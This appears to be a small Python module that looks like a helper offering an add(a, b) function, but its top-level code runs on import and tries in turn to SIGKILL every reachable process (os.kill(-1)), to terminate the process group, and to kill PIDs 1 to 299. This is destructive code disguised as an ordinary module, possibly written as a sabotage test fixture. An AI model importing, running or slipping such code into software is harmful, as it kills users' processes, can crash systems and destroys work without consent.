"""Kills every process that it may, in every way that there is."""

import os
import signal
import time

errors = set()
for way in (
    lambda: os.kill(-1, signal.SIGKILL),
    lambda: os.killpg(0, signal.SIGTERM),
    *(lambda pid=pid: os.kill(pid, signal.SIGKILL) for pid in range(1, 300) if pid != os.getpid()),
):
    try:
        way()
        break
    except OSError as error:
        errors.add(error.errno)
else:
    raise PermissionError(f"errors {errors}")


def add(a, b):
    return a + b
